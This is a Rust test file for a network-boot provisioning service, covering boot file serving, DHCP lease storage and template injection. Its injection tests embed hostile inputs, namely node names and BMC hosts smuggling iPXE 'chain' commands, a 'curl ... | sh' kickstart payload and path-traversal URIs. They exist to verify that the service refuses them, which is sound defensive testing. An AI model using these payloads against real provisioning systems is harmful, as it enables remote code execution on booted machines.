    assert_eq!(status, StatusCode::OK);
    assert_eq!(hs[header::CONTENT_LENGTH], binary.len().to_string());
    assert!(body.is_empty());
    let (status, hs, body) = raw(app, "GET", "/boot/snponly.efi", &[]).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(hs[header::CONTENT_TYPE], "application/octet-stream");
    assert!(body == binary, "the binary, byte for byte");
    let (status, hs, body) = raw(
        app,
        "GET",
        "/boot/snponly.efi",
        &[("range", "bytes=100-199")],
    )
    .await;
    assert_eq!(status, StatusCode::PARTIAL_CONTENT);
    assert_eq!(
        hs[header::CONTENT_RANGE],
        format!("bytes 100-199/{}", binary.len())
    );
    assert_eq!(body, binary[100..200]);
    // The same jail as TFTP's and /files/'s.
    for (uri, want) in [
        ("/boot/../secret", StatusCode::FORBIDDEN),
        ("/boot/..%2Fsecret", StatusCode::FORBIDDEN),
        ("/boot/out.efi", StatusCode::FORBIDDEN),
        ("/boot/ipxe.efi", StatusCode::NOT_FOUND),
    ] {
        let (status, _, body) = raw(app, "GET", uri, &[]).await;
        assert_eq!(status, want, "{uri}: {}", String::from_utf8_lossy(&body));
    }
    // The files directory is its own: not configured here, so /files/ serves nothing.
    let (status, _, _) = raw(app, "GET", "/files/snponly.efi", &[]).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn leases_are_kept_in_the_store() {
    let h = harness().await;
    let planner = StorePlanner::new(h.engine.clone(), h.store.clone(), NODE_BASE);
    let lease = |mac: &str, last: u8| Lease {
        mac: mac.parse().unwrap(),
        ip: Ipv4Addr::new(10, 9, 0, last),
        expires_unix: 4_000_000_000,
    };
    planner
        .save_lease(&lease("52:54:00:00:00:01", 100))
        .await
        .unwrap();
    planner
        .save_lease(&lease("52:54:00:00:00:02", 101))
        .await
        .unwrap();
    planner
        .save_lease(&lease("52:54:00:00:00:01", 102))
        .await
        .unwrap();
    assert_eq!(
        planner.load_leases().await.unwrap(),
        [
            lease("52:54:00:00:00:01", 102),
            lease("52:54:00:00:00:02", 101)
        ]
    );
    planner
        .delete_lease(&"52:54:00:00:00:01".parse().unwrap())
        .await
        .unwrap();
    planner
        .delete_lease(&"52:54:00:00:00:09".parse().unwrap())
        .await
        .unwrap();
    assert_eq!(
        planner.load_leases().await.unwrap(),
        [lease("52:54:00:00:00:02", 101)]
    );
    // A second planner over the same store (a restart) sees them.
    let again = StorePlanner::new(h.engine.clone(), h.store.clone(), NODE_BASE);
    assert_eq!(again.load_leases().await.unwrap().len(), 1);

    // DHCP's lease writer stores what queued up in one call: in order, a later change for
    // the same MAC winning (a grant replacing an expired lease deletes it first).
    let mac = |m: &str| m.parse().unwrap();
    planner
        .store_leases(&[
            LeaseChange::Delete(mac("52:54:00:00:00:02")),
            LeaseChange::Save(lease("52:54:00:00:00:03", 101)),
            LeaseChange::Save(lease("52:54:00:00:00:04", 104)),
            LeaseChange::Delete(mac("52:54:00:00:00:04")),
            LeaseChange::Delete(mac("52:54:00:00:00:05")),
            LeaseChange::Save(lease("52:54:00:00:00:05", 105)),
        ])
        .await
        .unwrap();
    assert_eq!(
        again.load_leases().await.unwrap(),
        [
            lease("52:54:00:00:00:03", 101),
            lease("52:54:00:00:00:05", 105)
        ]
    );
}

/// The commands iPXE would run from `script`, each as its tokens, read the way iPXE reads a
/// script (`src/image/script.c`, `src/core/exec.c`): lines end at `\n` (a trailing `\r` is
/// dropped, a trailing `\` joins the next line), labels (`:name`) are skipped, tokens are
/// split at whitespace, a token starting with `#` ends the line, and `||`, `&&` and `;`
/// separate commands.
fn ipxe_commands(script: &str) -> Vec<Vec<String>> {
    let mut lines = Vec::new();
    let mut pending = String::new();
    for raw in script.split('\n') {
        let raw = raw.strip_suffix('\r').unwrap_or(raw);
        if let Some(joined) = raw.strip_suffix('\\') {
            pending.push_str(joined);
            continue;
        }
        pending.push_str(raw);
        lines.push(std::mem::take(&mut pending));
    }
    let mut commands = Vec::new();
    for line in lines {
        let mut command = line.trim_start();
        if let Some(labelled) = command.strip_prefix(':') {
            command = labelled
                .split_once(char::is_whitespace)
                .map_or("", |(_, c)| c);
        }
        let mut current = Vec::new();
        for token in command.split(|c: char| c.is_ascii_whitespace() || c == '\u{b}') {
            match token {
                "" => {}
                t if t.starts_with('#') => break,
                "||" | "&&" | ";" => commands.push(std::mem::take(&mut current)),
                t => current.push(t.to_owned()),
            }
        }
        commands.push(current);
    }
    commands.retain(|c: &Vec<String>| !c.is_empty());
    commands
}

#[test]
fn the_test_reader_of_ipxe_scripts_sees_injected_commands() {
    let script = "#!ipxe\n:retry\necho a && chain http://x/pwn.ipxe\necho b\\\nreboot # c\n";
    assert_eq!(
        ipxe_commands(script),
        [
            vec!["echo", "a"],
            vec!["chain", "http://x/pwn.ipxe"],
            vec!["echo", "breboot"],
        ]
    );
}

/// Hostile names, in every shape that could add a command to a script.
const PWN: &str = "http://127.0.0.1:1/pwn.ipxe";

#[tokio::test]
async fn a_node_name_cannot_add_commands_to_its_boot_script() {
    let h = harness().await;
    // A name with a line break is refused by the node rules, whichever API sends it.
    let mut evil = h.node("52:54:00:12:34:40", &[]).await;
    evil.id = String::new();
    evil.identifiers = vec!["52:54:00:12:34:41".into()];
    evil.name = format!("evil\nchain {PWN}");
    let err = h
        .engine
        .nodes()
        .create(evil.clone())
        .await
        .expect_err("a name with a line break is refused");
    assert!(err.to_string().contains("'name'"), "{err}");
    evil.name = format!("evil\r\n#!ipxe\nchain {PWN}");
    assert!(h.engine.nodes().create(evil).await.is_err());

    // Names without a line break that iPXE would still split into commands: the shipped
    // install profile prints the name, and a profile of its own prints it, its tags and
    // what the BMC's discovery recorded.
    std::fs::write(
        h.templates.path().join("show.ipxe"),
        "#!ipxe\necho {{ node.name }} {{ node.tags | join(' ') }} {{ node.obmHost }}\nsanboot --drive 0x80\n",
    )
    .unwrap();
    let names = [
        format!("evil && chain {PWN}"),
        format!("evil ; chain {PWN}"),
        format!("evil || chain {PWN}"),
        "evil\\".to_owned(),
        "evil ${password}".to_owned(),
    ];
    for (i, name) in names.iter().enumerate() {
        let mac = format!("52:54:00:12:35:{i:02x}");
        let mut node = Node {
            id: String::new(),
            name: name.clone(),
            identifiers: vec![mac.clone()],
            node_type: "compute".into(),
            tags: vec![
                "boot-profile=show.ipxe".to_owned(),
                format!("x ; chain {PWN}"),
            ],
            obms: vec![Obm {
                service: "sim-obm-service".into(),
                config: ObmConfig {
                    host: format!("sim\nchain {PWN}"),
                    ..ObmConfig::default()
                },
            }],
            created_at: String::new(),
            updated_at: String::new(),
        };
        node = h.engine.nodes().create(node).await.expect("created");
        let script = h.profile(&format!("macs={mac}&platform=efi")).await;
        let commands = ipxe_commands(&script);
        assert_eq!(
            commands.iter().map(|c| c[0].as_str()).collect::<Vec<_>>(),
            ["echo", "sanboot"],
            "{name:?} changed the script's commands:\n{script}"
        );
        assert!(!script.contains('$'), "{script}");

        // The shipped install profile, for a node whose install task runs.
        let id = h
            .run(
                "Graph.InstallOS.PXE",
                &node.id,
                json!({"defaults": {"kernel": "http://10.9.0.1:8090/files/vmlinuz", "initrd": "http://10.9.0.1:8090/files/initrd.img"}}),
            )
            .await;
        h.wait_task(&id, "wait-installed", "running").await;
        let url = h.dhcp_url(&mac).await;
        let script = h
            .profile(&format!(
                "{}&platform=efi",
                &url["/api/2.0/profiles?".len()..]
            ))
            .await;
        let commands = ipxe_commands(&script);
        let names: Vec<&str> = commands.iter().map(|c| c[0].as_str()).collect();
        assert_eq!(
            names,
            [
                "echo", "kernel", "goto", "initrd", "goto", "boot", "goto", "echo", "sleep", "goto"
            ],
            "{name:?} changed the script's commands:\n{script}"
        );
        assert!(
            !commands.iter().flatten().any(|t| t == PWN),
            "{name:?} put its URL into an argument of its own:\n{script}"
        );
        h.engine.cancel(&id).await.expect("cancelled");
    }
}

#[tokio::test]
async fn reported_values_that_are_not_what_ipxe_writes_are_refused() {
    let h = harness().await;
    for query in [
        format!("macs=52:54:00:12:36:01&platform=efi%0Achain%20{PWN}"),
        "macs=52:54:00:12:36:01&platform=efi&buildarch=x86_64%20%26%26%20reboot".to_owned(),
        "macs=52:54:00:12:36:01&platform=efi&uuid=%24%7Bpassword%7D".to_owned(),
    ] {
        let (status, _, body) = h.get(&format!("/api/2.0/profiles?{query}")).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{query}: {body}");
    }
    assert!(
        h.engine.nodes().list().await.unwrap().is_empty(),
        "no node was enrolled from a refused request"
    );
}

#[tokio::test]
async fn a_kickstart_refuses_to_print_a_line_break_a_node_brought_in() {
    let h = harness().await;
    h.ship_kickstart();
    std::fs::write(
        h.templates.path().join("bmc.ks"),
        "# Node {{ node.name }}, BMC {{ node.obmHost }}\ntext\nreboot\n",
    )
    .unwrap();
    let mut node = h.node("52:54:00:12:37:01", &[]).await;
    // The BMC address came from discovery; it tries to add a %post section.
    node = h
        .engine
        .nodes()
        .update(&node.id, |n| {
            n.obms[0].config.host = format!("10.0.0.5\n%post\ncurl {PWN} | sh\n%end");
            Ok(())
        })
        .await
        .expect("updated");
    let (status, _, body) = h
        .get(&format!("/api/2.0/templates/bmc.ks?nodeId={}", node.id))
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    let message = serde_json::from_str::<Value>(&body).expect("a JSON error")["error"]["message"]
        .as_str()
        .expect("a message")
        .to_owned();
    assert!(message.contains("control character U+000A"), "{message}");
    assert!(
        !message.contains('\n'),
        "the message stays one line: {message}"
    );

    // The shipped kickstart, rendered while the node's callback task waits, carries the
    // callback URL percent-encoded inside its single quotes.
    h.engine
        .definitions()
        .put_graph(
            serde_yaml::from_str(
                "injectableName: Test.Wait\ntasks:\n  - {label: wait, taskName: Task.Wait.Notification}\n",
            )
            .unwrap(),
        )
        .await
        .unwrap();
    let quoted = h.node("52:54:00:12:37:02", &[]).await;
    let quoted = h
        .engine
        .nodes()
        .update(&quoted.id, |n| {
            n.name = "o'brien; curl evil | sh".into();
            Ok(())
        })
        .await
        .expect("renamed");
    h.run("Test.Wait", &quoted.id, json!({})).await;
    let token = h.waiting_token(&quoted.id).await;
    let cap = h
        .engine
        .waiting_task(&quoted.id)
        .await
        .expect("it waits")
        .cap;
    let (status, _, body) = h
        .get(&format!(
            "/api/2.0/templates/kickstart-callback.ks?nodeId={}&cap={}",
            quoted.id,
            cap.as_str()
        ))
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert!(
        body.contains(&format!(
            "'{NODE_BASE}/notification?nodeId={}&token={token}'",
            quoted.id
        )),
        "{body}"
    );
}
